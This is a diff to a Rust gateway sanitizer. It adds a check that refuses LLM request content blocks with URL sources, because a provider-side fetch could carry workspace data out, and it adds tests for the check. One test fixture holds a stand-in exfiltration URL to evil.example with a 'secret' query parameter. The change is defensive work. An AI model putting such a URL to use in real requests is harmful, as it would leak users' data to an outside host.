@@ -14,6 +14,12 @@
 //! tool by name is dropped too (the model then chooses freely) rather than failing the whole
 //! request. A `tools: []` that arrived empty is left alone: nothing was removed.
 //!
+//! Media whose `source` is `{"type": "url", ...}` (images, documents, any block at any depth
+//! of `system` and `messages`, `tool_result` content included) is refused by
+//! [`refuse_url_sources`] unless the model's `allow_url_sources` says otherwise: the provider
+//! would fetch the URL, so an agent could carry workspace data out in it, and the gateway
+//! cannot know what the fetched content costs.
+//!
 //! The request is always re-serialized from the parsed value, never patched as bytes, so the
 //! upstream sees exactly what was checked (no duplicate-key or parser-differential tricks).
 
@@ -33,6 +39,11 @@ pub enum SanitizeError {
     ToolsNotArray { found: &'static str },
     #[error("tools[{index}] must be an object, got {found}")]
     ToolNotObject { index: usize, found: &'static str },
+    #[error(
+        "{path}: content with a url source is refused (the provider would fetch it); send it as \
+         base64, or allow url sources for this model (allow_url_sources)"
+    )]
+    UrlSource { path: String },
 }
 
 /// A tool that was removed, for logs.
@@ -192,6 +203,57 @@ fn forces_removed_tool(obj: &Map<String, Value>, removed: &[RemovedTool]) -> boo
                 .any(|t| t.get("name").and_then(Value::as_str) == Some(name))
         });
     !still_present && removed.iter().any(|r| r.name.as_deref() == Some(name))
+}
+
+/// Refuses a request carrying any block whose `source.type` is `"url"` anywhere in `system` or
+/// `messages` (nested `tool_result` content included). The `input` of tool calls is the
+/// model's own data, not content the provider fetches, and is not inspected.
+pub fn refuse_url_sources(body: &Value) -> Result<(), SanitizeError> {
+    for key in ["system", "messages"] {
+        if let Some(v) = body.get(key) {
+            find_url_source(v, &mut key.to_owned())?;
+        }
+    }
+    Ok(())
+}
+
+fn find_url_source(v: &Value, path: &mut String) -> Result<(), SanitizeError> {
+    match v {
+        Value::Object(obj) => {
+            if let Some(Value::Object(source)) = obj.get("source")
+                && source.get("type").and_then(Value::as_str) == Some("url")
+            {
+                return Err(SanitizeError::UrlSource {
+                    path: format!("{path}.source"),
+                });
+            }
+            let tool_call = matches!(
+                obj.get("type").and_then(Value::as_str),
+                Some("tool_use" | "server_tool_use")
+            );
+            for (k, child) in obj {
+                if tool_call && k == "input" {
+                    continue;
+                }
+                let len = path.len();
+                path.push('.');
+                path.push_str(k);
+                find_url_source(child, path)?;
+                path.truncate(len);
+            }
+            Ok(())
+        }
+        Value::Array(items) => {
+            for (i, child) in items.iter().enumerate() {
+                let len = path.len();
+                path.push_str(&format!("[{i}]"));
+                find_url_source(child, path)?;
+                path.truncate(len);
+            }
+            Ok(())
+        }
+        Value::Null | Value::Bool(_) | Value::Number(_) | Value::String(_) => Ok(()),
+    }
 }
 
 /// Parses, sanitizes and re-serializes a request body.
@@ -358,6 +420,41 @@ mod tests {
         // Duplicate keys collapse in the parsed value; upstream sees only what was checked.
         let out = sanitize_bytes(br#"{"model":"a","model":"b"}"#, "up").unwrap();
         assert_eq!(out, br#"{"model":"up"}"#);
+    }
+
+    #[test]
+    fn url_sources_are_refused_at_any_depth() {
+        let url_image = json!({"type": "image", "source": {"type": "url", "url": "https://evil.example/?d=secret"}});
+        let nested = json!({"messages": [
+            {"role": "user", "content": "hi"},
+            {"role": "user", "content": [{"type": "tool_result", "tool_use_id": "t",
+                "content": [{"type": "text", "text": "ok"}, url_image]}]},
+        ]});
+        match refuse_url_sources(&nested) {
+            Err(SanitizeError::UrlSource { path }) => {
+                assert_eq!(path, "messages[1].content[0].content[1].source")
+            }
+            other => panic!("{other:?}"),
+        }
+        let doc = json!({"type": "document", "source": {"type": "url", "url": "https://x/a.pdf"}});
+        assert!(refuse_url_sources(&json!({"system": [doc.clone()]})).is_err());
+        assert!(
+            refuse_url_sources(&json!({"messages": [{"role": "user", "content": [doc]}]})).is_err()
+        );
+    }
+
+    #[test]
+    fn base64_media_and_tool_inputs_pass() {
+        let ok = json!({
+            "system": [{"type": "text", "text": "s"}],
+            "messages": [{"role": "user", "content": [
+                {"type": "image", "source": {"type": "base64", "media_type": "image/png", "data": "AAAA"}},
+                {"type": "document", "source": {"type": "text", "media_type": "text/plain", "data": "d"}},
+                {"type": "tool_use", "id": "t", "name": "Fetch", "input": {"source": {"type": "url"}}},
+            ]}],
+            "tools": [{"name": "x", "input_schema": {"properties": {"source": {"type": "url"}}}}],
+        });
+        refuse_url_sources(&ok).unwrap();
     }
 
     fn json_leaf() -> impl Strategy<Value = Value> {
